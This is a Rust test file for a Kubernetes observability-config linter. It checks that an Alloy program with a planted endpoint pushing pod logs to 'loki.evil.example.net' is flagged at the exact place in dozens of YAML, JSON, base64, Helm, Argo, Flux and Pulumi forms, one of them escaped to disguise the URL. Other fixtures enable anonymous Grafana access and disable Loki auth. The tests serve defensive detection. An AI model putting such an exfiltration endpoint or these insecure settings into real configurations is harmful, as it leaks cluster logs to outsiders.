//! One planted leak in every form of input: always the same finding, each time at the place where it was typed.
#![expect(clippy::unwrap_used, reason = "a test fails by a panic")]

mod program;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use program::Ran;
use program::check;
use program::folder;
use program::indented;
use program::only_place;
use program::run;
use serde_json::Value;
use serde_json::json;

/// Where the leak leads; what every form is searched for, since it occurs once.
const EVIL: &str = "https://loki.evil.example.net/loki/api/v1/push";

/// A collector's program that sends logs out. The leak is on line 17, column 10 (one tab is one character).
const PROGRAM: &str = r#"// What: "quotes", 'apostrophes', back\slashes, ünïcode, # and : everywhere.
discovery.kubernetes "pods" {
	role = "pod"
}

loki.source.kubernetes "pods" {
	targets    = discovery.kubernetes.pods.targets
	forward_to = [loki.write.local.receiver]
}

loki.write "local" {
	endpoint {
		url = "http://loki-gateway.loki.svc.cluster.local/loki/api/v1/push"
	}

	endpoint {
		url = "https://loki.evil.example.net/loki/api/v1/push"
	}
	external_labels = {"why" = "because: it's so long that whoever folds lines has to fold this one, more than once"}
}
"#;

/// The leak in [`PROGRAM`].
const INNER: (u64, u64) = (17, 10);

const META: &str = "metadata:\n  name: alloy-config\n  namespace: alloy\n";

/// A ConfigMap whose `config.alloy` is written like this.
fn config_map(value: &str) -> String {
    format!("apiVersion: v1\nkind: ConfigMap\n{META}data:\n  config.alloy: {value}\n")
}

/// [`PROGRAM`] as a literal block, indented below a key that is indented by `by`.
fn literal(by: usize) -> String {
    format!("|\n{}", indented(PROGRAM, by + 2).trim_end_matches('\n'))
}

/// A YAML double-quoted scalar, folded at spaces from column 80 on, tabs escaped: how kubectl prints such texts.
fn folded_quotes(text: &str, indent: usize) -> String {
    let mut out = String::from("\"");
    let mut column = indent;
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            ' ' if column > 80
                && !out.ends_with(' ')
                && characters.peek().is_some_and(|next| !next.is_whitespace()) =>
            {
                out.push('\n');
                out.push_str(&" ".repeat(indent));
                column = indent;
                continue;
            }
            other => out.push(other),
        }
        column += 1;
    }
    out.push('"');
    out
}

/// A single-quoted scalar: each line end is an empty line, tabs at the start of a line would be lost, so there are none.
fn single_quotes(text: &str, indent: usize) -> String {
    let text = text.replace('\'', "''").replace('\n', "\n\n").replace("\n\n\n\n", "\n\n\n");
    format!("'{}{}'", indented(&text, indent).trim_start(), " ".repeat(indent))
}

fn config_map_json() -> Value {
    json!({
        "apiVersion": "v1",
        "data": {"config.alloy": PROGRAM},
        "kind": "ConfigMap",
        "metadata": {"name": "alloy-config", "namespace": "alloy"},
    })
}

/// The leak's finding, without its places.
fn meaning(finding: &Value) -> Value {
    json!([finding["rule"], finding["message"], finding["severity"], finding["fingerprint"]])
}

/// What the leak is in the plainest form: a file by itself.
fn plain() -> Value {
    let found = check(&[("config.alloy", PROGRAM.as_bytes())]);
    meaning(&the_leak(&found))
}

/// The one leak of a run that has no other.
fn the_leak(found: &Ran) -> Value {
    assert_eq!((found.code, found.errors()), (1, Vec::new()), "{}{}", found.stdout, found.stderr);
    let leaks = found.findings("logs-leave-workload");
    assert_eq!(leaks.len(), 1, "{}", found.stdout);
    leaks.first().unwrap().clone()
}

/// What a form must come to.
struct Form<'f> {
    name: &'f str,
    path: &'f str,
    text: String,
    /// Line and column in the file.
    outer: (u64, u64),
    object: Option<&'f str>,
    /// Field, language, line, column; outermost first.
    layers: Vec<(&'f str, &'f str, u64, u64)>,
}

impl<'f> Form<'f> {
    /// A form in which the leak's text stands as it is.
    fn new(name: &'f str, path: &'f str, text: String) -> Self {
        let outer = only_place(&text, EVIL);
        Self { name, path, text, outer, object: None, layers: Vec::new() }
    }

    /// In an object, in one field.
    fn within(mut self, object: &'f str, field: &'f str) -> Self {
        self.object = Some(object);
        self.layers.push((field, "alloy", INNER.0, INNER.1));
        self
    }

    /// What is not as it must be.
    fn fault(&self, plain: &Value) -> Option<String> {
        let found = check(&[(self.path, self.text.as_bytes())]);
        let leaks = found.findings("logs-leave-workload");
        let [leak] = &leaks[..] else {
            return Some(format!("{}: {} leaks, {:?}", self.name, leaks.len(), found.errors()));
        };
        let at = &leak["location"];
        let layer = |(field, language, line, column): &(_, _, _, _)| json!({"field": field, "language": language, "line": line, "column": column});
        let expected = json!([
            1,
            plain,
            self.path,
            self.outer.0,
            self.outer.1,
            self.object,
            self.layers.iter().map(layer).collect::<Vec<_>>()
        ]);
        let seen = json!([
            found.code,
            meaning(leak),
            at["path"],
            at["line"],
            at["column"],
            at["object"],
            at["layers"]
        ]);
        (expected != seen).then(|| format!("{}:\n  not {expected}\n but {seen}", self.name))
    }
}

const CONFIG: &str = "ConfigMap alloy/alloy-config";
const DATA: &str = "data.config.alloy";

fn yaml(name: &str, text: String) -> Form<'_> {
    Form::new(name, "a.yaml", text)
}

fn programs_by_themselves() -> Vec<Form<'static>> {
    let text = || PROGRAM.to_owned();
    vec![
        Form::new("in a file of its own", "config.alloy", text()),
        Form::new("in a file called .yaml", "config.yaml", text()),
        Form::new("in a file called .json", "config.json", text()),
        Form::new("with CRLF", "config.alloy", PROGRAM.replace('\n', "\r\n")),
        Form::new("with a byte order mark", "config.alloy", format!("\u{feff}{PROGRAM}")),
    ]
}

fn config_maps() -> Vec<Form<'static>> {
    // No line of a folded scalar may be moved further than the first, or it is not folded; tabs are characters here.
    let more_lines = PROGRAM.replace('\n', "\n\n").replace("\n\n\n\n", "\n\n\n").replace('\t', "");
    let spaces = PROGRAM.replace('\t', "");
    let document = config_map(&literal(2));
    let harmless = |name: &str| format!("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: {name}\n");
    let escaped =
        config_map(&folded_quotes(PROGRAM, 4)).replace("https://loki.evil", "\\x68ttps:\\/\\/loki.evil");
    let escaped_place = only_place(&escaped, "\\x68ttps");
    let no_tabs = |form: Form<'static>| Form {
        layers: vec![(DATA, "alloy", INNER.0, INNER.1 - 2)],
        object: Some(CONFIG),
        ..form
    };
    vec![
        yaml("literal", document.clone()).within(CONFIG, DATA),
        yaml("literal, with an indentation indicator", config_map(&literal(2).replacen('|', "|2-", 1)))
            .within(CONFIG, DATA),
        yaml("literal, chomped and commented", config_map(&literal(2).replacen('|', "|- # the program", 1)))
            .within(CONFIG, DATA),
        yaml(
            "literal, deep indentation",
            config_map(&format!("|+\n{}", indented(PROGRAM, 17))),
        )
        .within(CONFIG, DATA),
        no_tabs(yaml("folded", config_map(&format!(">\n{}", indented(&more_lines, 4))))),
        yaml("double-quoted, folded", config_map(&folded_quotes(PROGRAM, 4))).within(CONFIG, DATA),
        yaml("double-quoted, on one line", config_map(&serde_json::to_string(PROGRAM).unwrap()))
            .within(CONFIG, DATA),
        Form { outer: escaped_place, ..Form { text: escaped, ..yaml("double-quoted, with escapes", EVIL.to_owned()) } }.within(CONFIG, DATA),
        no_tabs(yaml("single-quoted", config_map(&single_quotes(&spaces, 4)))),
        yaml("with CRLF", document.replace('\n', "\r\n")).within(CONFIG, DATA),
        yaml("with a byte order mark", format!("\u{feff}{document}")).within(CONFIG, DATA),
        yaml("with both", format!("\u{feff}{document}").replace('\n', "\r\n")).within(CONFIG, DATA),
        yaml("with a tag", config_map(&format!("!!str {}", literal(2)))).within(CONFIG, DATA),
        yaml("with comments", format!("# one\n---\n# two\n{document}# three\n")).within(CONFIG, DATA),
        yaml("third of a stream", format!("{}---\n{}---\n{document}", harmless("a"), harmless("b")))
            .within(CONFIG, DATA),
        yaml("before a document end mark", format!("%YAML 1.2\n---\n{document}...\n")).within(CONFIG, DATA),
        yaml(
            "through an alias",
            format!(
                "apiVersion: v1\nkind: ConfigMap\n{META}  annotations:\n    copy: &text {}\ndata:\n  config.alloy: *text\n",
                literal(4)
            ),
        )
        .within(CONFIG, DATA),
        yaml(
            "through a merge key",
            format!(
                "x-common: &common\n  config.alloy: {}\napiVersion: v1\nkind: ConfigMap\n{META}data:\n  <<: *common\n  other: a\n",
                literal(2)
            ),
        )
        .within(CONFIG, DATA),
        yaml(
            "in an item of a List",
            format!(
                "apiVersion: v1\nkind: List\nitems:\n- {}",
                indented(&document, 2).trim_start()
            ),
        )
        .within(CONFIG, DATA),
        yaml(
            "in an aliased item of a List",
            format!(
                "x: &map\n{}apiVersion: v1\nkind: List\nitems: [*map, *map]\n",
                indented(&document, 2)
            ),
        )
        .within(CONFIG, DATA),
        yaml("JSON in a file called .yaml", serde_json::to_string(&config_map_json()).unwrap())
            .within(CONFIG, DATA),
    ]
}

fn json_forms() -> Vec<Form<'static>> {
    let json = |name, value: &Value, pretty: bool| {
        let text = if pretty { serde_json::to_string_pretty(value) } else { serde_json::to_string(value) };
        Form::new(name, "a.json", text.unwrap())
    };
    let list = json!({
        "apiVersion": "v1",
        "items": [{"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "alloy"}}, config_map_json()],
        "kind": "List",
        "metadata": {"resourceVersion": ""},
    });
    let typed = json!({"kind": "ConfigMapList", "apiVersion": "v1", "items": [config_map_json()]});
    let mut bare = config_map_json();
    bare.as_object_mut().unwrap().retain(|key, _| key != "kind" && key != "apiVersion");
    let bare = json!({"kind": "ConfigMapList", "apiVersion": "v1", "items": [bare]});
    let export = json!({"version": 3, "deployment": {"resources": [
        {"urn": "urn:pulumi:s::p::kubernetes:core/v1:ConfigMap::alloy-config", "type": "kubernetes:core/v1:ConfigMap",
         "inputs": config_map_json(), "outputs": {}},
    ]}});
    let release = json!({"version": 3, "deployment": {"resources": [
        {"urn": "urn:pulumi:s::p::kubernetes:helm.sh/v3:Release::alloy", "type": "kubernetes:helm.sh/v3:Release",
         "inputs": {"chart": "alloy", "name": "alloy", "namespace": "alloy",
                    "values": {"alloy": {"configMap": {"content": PROGRAM}}}}},
    ]}});
    vec![
        json("JSON on one line", &config_map_json(), false).within(CONFIG, DATA),
        json("JSON, indented", &config_map_json(), true).within(CONFIG, DATA),
        json("JSON List on one line", &list, false).within(CONFIG, DATA),
        json("JSON List, indented", &list, true).within(CONFIG, DATA),
        json("JSON list of one kind", &typed, true).within(CONFIG, DATA),
        json("JSON list of one kind, as the API server gives it", &bare, true).within(CONFIG, DATA),
        json("Pulumi export of objects", &export, true).within(CONFIG, DATA),
        json("Pulumi export of a release", &release, false)
            .within("Release alloy/alloy", "values.alloy.configMap.content"),
    ]
}

fn secrets() -> Vec<Form<'static>> {
    let encoded = STANDARD.encode(PROGRAM);
    // Each three bytes stand in four characters: the place is the first of the four.
    let at = 4 * (PROGRAM.find(EVIL).unwrap() as u64 / 3);
    let secret = |section: &str, value: &str| {
        format!("apiVersion: v1\nkind: Secret\n{META}{section}:\n  config.alloy: {value}\n")
    };
    let base64 = |name, text: String, line, column| Form {
        outer: (line, column),
        text,
        ..yaml(name, EVIL.to_owned())
    };
    let wrapped: Vec<&str> =
        encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
    vec![
        base64("Secret, encoded", secret("data", &encoded), 7, 17 + at)
            .within("Secret alloy/alloy-config", DATA),
        base64(
            "Secret, encoded in lines",
            secret("data", &format!("|\n    {}", wrapped.join("\n    "))),
            8 + at / 76,
            5 + at % 76,
        )
        .within("Secret alloy/alloy-config", DATA),
        yaml("Secret, plain", secret("stringData", &literal(2)))
            .within("Secret alloy/alloy-config", "stringData.config.alloy"),
        base64(
            "ConfigMap, binary data",
            secret("binaryData", &format!("\"{encoded}\"")).replace("Secret", "ConfigMap"),
            7,
            18 + at,
        )
        .within(CONFIG, "binaryData.config.alloy"),
    ]
}

/// Values of the alloy chart, each line moved by `by`.
fn values(by: usize) -> String {
    let text = format!("alloy:\n  configMap:\n    content: {}\n", literal(4));
    indented(&text, by)
}

#[expect(clippy::too_many_lines, reason = "one entry for each form")]
fn releases() -> Vec<Form<'static>> {
    let chart = |kind: &str, spec: &str| {
        format!(
            "apiVersion: helm.cattle.io/v1\nkind: {kind}\nmetadata:\n  name: alloy\n  namespace: kube-system\nspec:\n{spec}"
        )
    };
    let content = "alloy.configMap.content";
    // Two layers: the values, with the leak on the line that it has there, and the program.
    let inner = only_place(&values(0), EVIL);
    let two = |form: Form<'static>, object, field, inner: (u64, u64)| Form {
        object: Some(object),
        layers: vec![(field, "yaml", inner.0, inner.1), (content, "alloy", INNER.0, INNER.1)],
        ..form
    };
    let helm_chart = "HelmChart kube-system/alloy";
    let head = "  chart: alloy\n  targetNamespace: alloy\n";
    let quoted = format!("alloy:\n  configMap:\n    content: {}\n", folded_quotes(PROGRAM, 6));
    let quoted_inner = only_place(&quoted, EVIL);
    let flux = |values: &str| {
        format!(
            "apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata:\n  name: alloy\n  namespace: flux\nspec:\n  targetNamespace: alloy\n  chart:\n    spec:\n      chart: alloy\n{values}"
        )
    };
    let argo = |source: &str| {
        format!(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: alloy\n  namespace: argocd\nspec:\n  destination:\n    namespace: alloy\n{source}"
        )
    };
    let application = "Application argocd/alloy";
    vec![
        Form { layers: vec![(content, "alloy", INNER.0, INNER.1)], ..yaml("values file", values(0)) },
        two(
            yaml("HelmChart", chart("HelmChart", &format!("{head}  valuesContent: |-\n{}", values(4)))),
            helm_chart,
            "spec.valuesContent",
            inner,
        ),
        two(
            yaml(
                "HelmChart, values in quotes",
                chart("HelmChart", &format!("{head}  valuesContent: {}\n", folded_quotes(&values(0), 4))),
            ),
            helm_chart,
            "spec.valuesContent",
            inner,
        ),
        two(
            yaml(
                "HelmChart, program in quotes in values in quotes",
                chart("HelmChart", &format!("{head}  valuesContent: {}\n", folded_quotes(&quoted, 4))),
            ),
            helm_chart,
            "spec.valuesContent",
            quoted_inner,
        ),
        yaml("HelmChart, values as an object", chart("HelmChart", &format!("{head}  values:\n{}", values(4))))
            .within(helm_chart, "spec.values.alloy.configMap.content"),
        yaml(
            "HelmChart, set",
            chart("HelmChart", &format!("{head}  set:\n    alloy.configMap.content: {}\n", literal(4))),
        )
        .within(helm_chart, "spec.set.alloy.configMap.content"),
        two(
            yaml(
                "HelmChartConfig",
                format!(
                    "{}---\n{}",
                    chart("HelmChart", head),
                    chart("HelmChartConfig", &format!("  valuesContent: |-\n{}", values(4)))
                ),
            ),
            "HelmChartConfig kube-system/alloy",
            "spec.valuesContent",
            inner,
        ),
        yaml("Flux HelmRelease", flux(&format!("  values:\n{}", values(4))))
            .within("HelmRelease flux/alloy", "spec.values.alloy.configMap.content"),
        two(
            yaml(
                "Argo values",
                argo(&format!("  source:\n    chart: alloy\n    helm:\n      values: |\n{}", values(8))),
            ),
            application,
            "spec.source.helm.values",
            inner,
        ),
        yaml(
            "Argo values as an object",
            argo(&format!("  source:\n    chart: alloy\n    helm:\n      valuesObject:\n{}", values(8))),
        )
        .within(application, "spec.source.helm.valuesObject.alloy.configMap.content"),
        yaml(
            "Argo parameters",
            argo(&format!(
                "  source:\n    chart: alloy\n    helm:\n      parameters:\n      - name: alloy.configMap.content\n        value: {}\n",
                literal(8)
            )),
        )
        .within(application, "spec.source.helm.parameters[0].value"),
        two(
            yaml(
                "Argo, second source",
                argo(&format!(
                    "  sources:\n  - repoURL: https://git.example.com/values\n    ref: values\n  - chart: alloy\n    helm:\n      values: |\n{}",
                    values(8)
                )),
            ),
            application,
            "spec.sources[1].helm.values",
            inner,
        ),
        yaml(
            "ConfigMap among the extra objects of values",
            format!("alloy: {{}}\nextraObjects:\n- {}", indented(&config_map(&literal(2)), 2).trim_start()),
        )
        .within(CONFIG, DATA),
    ]
}

#[test]
fn the_same_leak_is_the_same_finding_in_every_form() {
    let plain = plain();
    let forms = [programs_by_themselves(), config_maps(), json_forms(), secrets(), releases()];
    let faults: Vec<String> = forms.iter().flatten().filter_map(|form| form.fault(&plain)).collect();
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn standard_input_is_recognised_by_its_content_whatever_its_name() {
    let plain = plain();
    let folder = folder(&[]);
    let document = config_map(&literal(2));
    let json = serde_json::to_string_pretty(&config_map_json()).unwrap();
    let brackets = format!(
        "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: alloy-config}}, data: {{config.alloy: {}}}}}\n",
        serde_json::to_string(PROGRAM).unwrap()
    );
    for (name, text) in
        [("Alloy", PROGRAM), ("YAML", &document), ("JSON", &json), ("YAML in brackets", &brackets)]
    {
        for filename in [None, Some("config.alloy.txt"), Some("dir/a.conf"), Some("a.yaml")] {
            let mut arguments = vec!["-o", "json"];
            arguments.extend(filename.iter().flat_map(|filename| ["--stdin-filename", filename]));
            arguments.push("-");
            let leak = the_leak(&run(folder.path(), &arguments, Some(text.as_bytes())));
            assert_eq!(meaning(&leak), plain, "{name} {filename:?}");
            let (line, column) = only_place(text, EVIL);
            let at = &leak["location"];
            let expected = json!([filename.unwrap_or("<stdin>"), line, column]);
            assert_eq!(json!([at["path"], at["line"], at["column"]]), expected, "{name} {filename:?}");
        }
    }
}

#[test]
fn file_that_is_named_is_recognised_by_its_content_whatever_its_name() {
    let folder =
        folder(&[("config.txt", PROGRAM.as_bytes()), ("noextension", config_map(&literal(2)).as_bytes())]);
    for (name, place) in [("config.txt", INNER), ("noextension", only_place(&config_map(&literal(2)), EVIL))]
    {
        let leak = the_leak(&run(folder.path(), &["-o", "json", name], None));
        let at = &leak["location"];
        assert_eq!(json!([at["path"], at["line"], at["column"]]), json!([name, place.0, place.1]));
    }
}

#[test]
fn several_forms_together_are_each_read() {
    // The same ConfigMap as YAML, as JSON and in a List is one object and one leak; a release has a
    // program of its own. The file beside the values holds the same program as they do: they are one.
    let list = json!({"apiVersion": "v1", "kind": "List", "items": [config_map_json()]});
    let release = releases().into_iter().find(|form| form.name == "HelmChart").unwrap().text;
    let folder = folder(&[
        ("one/a.yaml", config_map(&literal(2)).as_bytes()),
        ("one/b.json", serde_json::to_string(&config_map_json()).unwrap().as_bytes()),
        ("one/c.json", serde_json::to_string(&list).unwrap().as_bytes()),
        ("two/values.yaml", values(0).as_bytes()),
        ("three/chart.yaml", release.as_bytes()),
        ("four/config.alloy", PROGRAM.as_bytes()),
    ]);
    let found = run(folder.path(), &["-o", "json", "one", "two", "three", "four"], None);
    let mut leaks: Vec<Value> = found.findings("logs-leave-workload");
    leaks.sort_by_key(|leak| leak["location"]["path"].as_str().unwrap().to_owned());
    let paths: Vec<&str> = leaks.iter().map(|leak| leak["location"]["path"].as_str().unwrap()).collect();
    assert_eq!(found.code, 1);
    assert_eq!(paths, ["one/a.yaml", "three/chart.yaml", "two/values.yaml"]);
    let plain = plain();
    assert!(leaks.iter().all(|leak| meaning(leak) == plain), "{leaks:?}");
}

/// A document of each kind, with a finding that only that kind can have.
const KINDS: [(&str, &str, &str, &str); 8] = [
    ("alloy-values", "a.yaml", "alloy:\n  clustering:\n    enabled: true\n", "session-nodes-not-tolerated"),
    (
        "mimir-values",
        "a.yaml",
        "mimir:\n  structuredConfig:\n    multitenancy_enabled: false\n",
        "metrics-kept-for-ever",
    ),
    ("loki-values", "a.yaml", "loki:\n  auth_enabled: false\n", "logs-kept-for-ever"),
    (
        "grafana-values",
        "a.yaml",
        "grafana.ini:\n  auth.anonymous:\n    enabled: true\n",
        "anonymous-access-on",
    ),
    ("mimir", "a.yaml", "blocks_storage:\n  backend: s3\nlimits: {}\n", "metrics-kept-for-ever"),
    ("loki", "a.yaml", "schema_config: {}\nlimits_config: {}\n", "logs-kept-for-ever"),
    ("grafana-ini", "a.ini", "[auth.anonymous]\nenabled = true\n", "anonymous-access-on"),
    ("alloy", "a.alloy", PROGRAM, "logs-leave-workload"),
];

#[test]
fn each_kind_is_told_by_its_shape_and_by_kind() {
    for (kind, path, text, rule) in KINDS {
        let folder = folder(&[(path, text.as_bytes())]);
        for arguments in [vec!["-o", "json", path], vec!["-o", "json", "--kind", kind, path]] {
            let found = run(folder.path(), &arguments, None);
            assert!(!found.findings(rule).is_empty(), "{arguments:?} {text} {}", found.stdout);
            assert_eq!((found.errors(), found.passed_over()), (Vec::new(), Vec::new()), "{arguments:?}");
        }
    }
    // What says nothing of itself is what it is said to be.
    let folder = folder(&[("a.yaml", b"deploymentMode: SingleBinary\n")]);
    assert_eq!(run(folder.path(), &["-o", "json", "a.yaml"], None).passed_over().len(), 1);
    let said = run(folder.path(), &["-o", "json", "--kind", "loki-values", "a.yaml"], None);
    assert!(
        !said.findings("logs-kept-for-ever").is_empty() && said.passed_over().is_empty(),
        "{}",
        said.stdout
    );
    let said = run(folder.path(), &["-o", "json", "--kind", "manifests", "a.yaml"], None);
    assert_eq!(
        (said.code, said.errors()),
        (2, vec!["a.yaml:1: object has neither `apiVersion` nor `kind`: add both, as in `apiVersion: v1` and `kind: ConfigMap`".to_owned()])
    );
}

#[test]
fn input_that_is_passed_over_keeps_no_promise() {
    let found = check(&[("numbers.yaml", b"a: 1\n"), ("words.yaml", b"b: 2\n")]);
    let report = found.report();
    let verdicts = report["verdicts"].as_array().unwrap();
    assert_eq!(verdicts.len(), 8);
    for verdict in verdicts {
        assert_eq!(verdict["verdict"], "not-applicable", "{verdict}");
    }
    assert_eq!(verdicts[7]["summary"], "nothing that is linted is in the input");

    let found = check(&[
        ("numbers.yaml", b"a: 1\n"),
        ("pod.yaml", b"apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n"),
    ]);
    let coherence = &found.report()["verdicts"][7];
    assert_eq!((&coherence["verdict"], &coherence["summary"]), (&json!("holds"), &json!("2 documents read")));
}

#[test]
fn configuration_in_config_maps_is_found_at_its_line() {
    let object = |key: &str, text: &str| {
        format!("apiVersion: v1\nkind: ConfigMap\n{META}data:\n  {key}: |\n{}", indented(text, 4))
    };
    for (key, text, rule, line, column, language) in [
        ("grafana.ini", "[auth.anonymous]\nenabled = true\n", "anonymous-access-on", 9, 15, "ini"),
        ("loki.yaml", "auth_enabled: true\nschema_config: {}\n", "loki-tenancy-on", 8, 19, "yaml"),
        (
            "datasources.yaml",
            "apiVersion: 1\ndatasources:\n- name: Loki\n  type: loki\n  url: http://x\n",
            "loki-data-source-elsewhere",
            12,
            12,
            "yaml",
        ),
    ] {
        let found = check(&[("a.yaml", object(key, text).as_bytes())]);
        let finding = found.findings(rule);
        let at = &finding.first().unwrap()["location"];
        assert_eq!(json!([at["line"], at["column"], at["object"]]), json!([line, column, CONFIG]), "{key}");
        let layer = json!([{"field": format!("data.{key}"), "language": language, "line": line - 7, "column": column - 4}]);
        assert_eq!(at["layers"], layer, "{key}");
    }
}

#[test]
fn declarations_and_overrides_are_recognised_and_the_rest_is_passed_over_with_a_reason() {
    let none = "recognised as none of: Kubernetes object, values of alloy, mimir-distributed, loki or grafana, Mimir or Loki configuration, data sources, Pulumi export, workload declaration (say which with --kind)";
    let single = "a single value at the top level: no Kubernetes object, chart values or configuration";
    let list = "a list at the top level: no Kubernetes object, chart values or configuration";
    let found = check(&[
        ("ptd.yaml", b"apiVersion: posit.team/v1\nkind: AWSWorkloadConfig\nspec: {}\n"),
        ("site.yaml", b"apiVersion: core.posit.team/v1beta1\nkind: Site\nspec: {}\n"),
        ("overrides.yaml", b"overrides:\n  tenant: {}\n"),
        ("datasources.yaml", b"apiVersion: 1\ndatasources: []\n"),
        ("x/comment.yaml", b"# nothing\n"),
        ("x/list.json", b"[1]"),
        ("x/map.yaml", b"a: 1\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n---\nb: 1\n"),
        ("x/notes.md", b"# notes\n"),
        ("x/null.json", b"null"),
        ("x/words.yaml", b"some words\n"),
    ]);
    assert_eq!(found.errors(), Vec::<String>::new());
    let mut passed = found.passed_over();
    passed.sort();
    assert_eq!(
        passed,
        [
            "x/comment.yaml: holds no document".to_owned(),
            format!("x/list.json: {list}"),
            format!("x/map.yaml: the document at line 1: {none}"),
            format!("x/map.yaml: the document at line 7: {none}"),
            "x/notes.md: not a YAML, JSON, Alloy or INI file".to_owned(),
            "x/null.json: holds no document".to_owned(),
            format!("x/words.yaml: {single}"),
        ]
    );
}
